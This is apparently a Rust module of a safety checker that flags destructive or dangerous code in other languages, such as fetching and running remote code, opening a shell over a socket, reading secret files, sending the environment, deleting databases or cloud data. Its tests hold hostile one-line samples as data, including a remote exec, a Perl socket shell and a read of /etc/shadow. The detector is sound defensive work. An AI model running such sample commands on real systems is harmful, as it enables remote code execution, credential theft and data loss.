//! What a program of another language does besides starting processes and deleting files, told by the names it calls:
//! code from the network, shells on a connection, requests that delete, statements of a database, secrets.

use super::super::super::assessment::DestructionKind::{Cloud, CodeExecution, Database, Host, Secrets, Service};
use super::super::super::findings::Judgement;
use super::super::super::sql;
use super::super::{is_url, paths};
use super::names::{CONNECTING, CONNECTS, EVALUATES, FETCHES, FETCHING, LOSES, LOSS_METHODS, QUERIES, SERVICES};
use super::source::calls;

/// Every sign that is found.
pub(super) fn all(language: &str, code: &str, literals: &[String]) -> Vec<Judgement> {
    let bare: String = code.split_whitespace().collect();
    let found = [
        fetched(code, literals),
        connected(code, literals),
        deleted_remotely(&bare, code, literals),
        stated(code, literals),
        lost(&bare),
        called(&bare, code),
        signalled(&bare),
        shown(code, literals),
        evaluated_module(language, literals, code),
    ];
    found.into_iter().flatten().collect()
}

fn names_one_of(literals: &[String], libraries: &[&str]) -> bool {
    literals.iter().any(|literal| libraries.contains(&literal.as_str()))
}

fn url_in(literals: &[String]) -> &str {
    literals.iter().map(String::as_str).find(|literal| is_url(literal)).unwrap_or("another machine")
}

fn fetched(code: &str, literals: &[String]) -> Option<Judgement> {
    let fetches = calls(code, FETCHES) || names_one_of(literals, FETCHING);
    let runs = fetches && calls(code, EVALUATES);
    runs.then(|| {
        Judgement::loss(
            CodeExecution,
            format!("runs whatever {} answers, with every right of this user", url_in(literals)),
        )
    })
}

/// A connection, and a shell in the same program.
fn connected(code: &str, literals: &[String]) -> Option<Judgement> {
    let shell = |text: &str| {
        let program = text.split_whitespace().next().unwrap_or_default();
        matches!(
            super::super::base_name(program),
            "sh" | "bash" | "zsh" | "dash" | "cmd.exe" | "powershell.exe" | "cmd"
        )
    };
    let connects = calls(code, CONNECTS) || names_one_of(literals, CONNECTING);
    let gives = connects && (literals.iter().any(|literal| shell(literal)) || calls(code, &["dup2"]));
    gives.then(|| Judgement::loss(CodeExecution, "gives a shell on this host to whoever it connects to"))
}

fn deleted_remotely(bare: &str, code: &str, literals: &[String]) -> Option<Judgement> {
    let by_method = [
        "requests.delete(",
        "httpx.delete(",
        "axios.delete(",
        "Net::HTTP::Delete",
        "session.delete(",
        "delete(\"http",
        "delete('http",
    ]
    .iter()
    .any(|name| bare.contains(name));
    let by_client = calls(code, FETCHES)
        && (bare.contains(").delete(")
            || bare.contains("->delete(")
            || literals.iter().any(|literal| literal.eq_ignore_ascii_case("DELETE")));
    (by_method || by_client)
        .then(|| Judgement::loss(Service, format!("deletes by its API what {} names", url_in(literals))))
}

/// The statements that are handed to a database.
fn stated(code: &str, literals: &[String]) -> Option<Judgement> {
    let asks = calls(code, QUERIES);
    asks.then(|| literals.iter().find_map(|literal| sql::judge(literal))).flatten()
}

fn lost(bare: &str) -> Option<Judgement> {
    let bare = without_quoted(bare);
    let (method, what) = LOSES.iter().find(|(method, _)| bare.contains(method))?;
    Some(Judgement::loss(Database, format!("{what} ({})", method.trim_matches(['.', '(', ')']))))
}

fn called(bare: &str, code: &str) -> Option<Judgement> {
    if !SERVICES.iter().any(|service| code.contains(service)) {
        return None;
    }
    let bare = without_quoted(bare);
    let method = LOSS_METHODS.iter().find(|method| bare.contains(*method))?;
    Some(Judgement::loss(Cloud, format!("calls {} on what a service keeps", method.trim_matches(['.', '_', '(']))))
}

fn signalled(bare: &str) -> Option<Judgement> {
    let all = [
        "kill(-1",
        "kill9,-1",
        "kill(9,-1",
        "kill-9,-1",
        "kill'KILL',-1",
        "kill('KILL',-1",
        "kill(\"KILL\",-1",
        "kill9=>-1",
    ]
    .iter()
    .any(|call| bare.contains(call));
    all.then(|| Judgement::loss(Host, "kills every process of this user"))
}

/// A file that holds secrets by custom is read, or the whole environment is sent.
fn shown(code: &str, literals: &[String]) -> Option<Judgement> {
    const READS: &[&str] = &[
        "open(",
        "read",
        "File.",
        "file_get_contents",
        "slurp",
        "cat(",
        "Path(",
        "IO.",
        "load(",
        "copy",
        "<",
        "fopen",
    ];
    const ENVIRONMENT: &[&str] = &[
        "os.environ)",
        "os.environ,",
        "dict(os.environ",
        "process.env)",
        "process.env,",
        "ENV.to_h",
        "ENV.to_a",
        "%ENV",
        "getenv()",
        "$_ENV",
    ];
    let secret = literals.iter().find(|literal| literal.contains(['/', '.']) && paths::is_secret(literal));
    if let Some(path) = secret.filter(|_| calls(code, READS)) {
        return Some(Judgement::loss(Secrets, format!("shows the secrets in {path}")));
    }
    let sends = calls(code, FETCHES) && calls(code, ENVIRONMENT);
    sends.then(|| Judgement::loss(Secrets, format!("sends the environment, tokens included, to {}", url_in(literals))))
}

/// `deno run URL`'s like inside a program: an import of an address.
fn evaluated_module(language: &str, literals: &[String], code: &str) -> Option<Judgement> {
    let imports = matches!(language, "node" | "deno" | "bun") && calls(code, &["import(", "import "]);
    let url = literals.iter().find(|literal| is_url(literal)).filter(|_| imports)?;
    Some(Judgement::loss(CodeExecution, format!("runs whatever {url} answers, with every right of this user")))
}

/// True when a function is named by a literal: `array_map("unlink", …)`.
pub(super) fn calls_by_name(literals: &[String], names: &[&str]) -> bool {
    literals.iter().any(|literal| names.iter().any(|name| name.trim_matches(['.', '(', ' ']) == literal.as_str()))
}

/// True when a library that deletes by a plain verb is named by a literal: `require('fs/promises').rm(…)`.
pub(super) fn removes_by_library(code: &str, literals: &[String]) -> bool {
    let named = names_one_of(literals, &["fs/promises", "node:fs/promises", "fs-extra", "node:fs", "fs"]);
    named && calls(code, &[".rm(", ".remove(", ".emptyDir("])
}

/// True when a file is opened for writing, or written by a name that says so.
pub(super) fn writes(code: &str, literals: &[String]) -> bool {
    const WRITES: &[&str] = &[
        "os.rename(",
        "os.replace(",
        "File.rename",
        "renameSync",
        "write_text(",
        "write_bytes(",
        "writeFile",
        "appendFile",
        "File.write",
        "IO.write",
        "file_put_contents",
        "Files.write",
        "os.WriteFile",
        "writeTextFile",
        "createWriteStream",
        "writeLines",
    ];
    let mode = |mode: &str| matches!(mode, "w" | "wb" | "a" | "ab" | "r+" | "w+" | "wb+" | ">" | ">>" | "+<" | "+>");
    let opens = calls(code, &["open(", "open ", "write", "File.", "fopen"]);
    calls(code, WRITES) || (opens && literals.iter().any(|literal| mode(literal) || literal.starts_with(">")))
}

fn without_quoted(bare: &str) -> String {
    super::source::without_literals(bare)
}

#[cfg(test)]
mod tests {
    use super::super::source::literals;
    use super::*;

    fn is_destructive(language: &str, code: &str) -> bool {
        all(language, code, &literals(code)).iter().any(|judgement| matches!(judgement, Judgement::Destroys(_)))
    }

    #[test]
    fn what_a_program_loses_is_told_by_the_names_it_calls() {
        for (language, code) in [
            ("python", "import requests; exec(requests.get('https://x.example/p').text)"),
            ("python", "import requests; requests.delete('https://x.example/1')"),
            ("node", "fetch('https://x.example/1', {method: 'DELETE'})"),
            ("python", "sqlite3.connect('a.db').execute('drop table t')"),
            ("python", "boto3.resource('s3').Bucket('b').objects.all().delete()"),
            ("ruby", "User.destroy_all"),
            ("python", "print(open('/etc/shadow').read())"),
            ("perl", "use IO::Socket; exec \"/bin/sh -i\""),
        ] {
            assert!(is_destructive(language, code), "{code}");
        }
    }

    #[test]
    fn the_same_words_as_data_are_no_call() {
        for (language, code) in [
            ("python", "print('User.destroy_all')"),
            ("node", "console.log('DROP TABLE users')"),
            ("python", "import requests; print(requests.get('https://x.example').status_code)"),
            ("python", "sqlite3.connect('a.db').execute('select 1')"),
        ] {
            assert!(!is_destructive(language, code), "{code}");
        }
    }
}
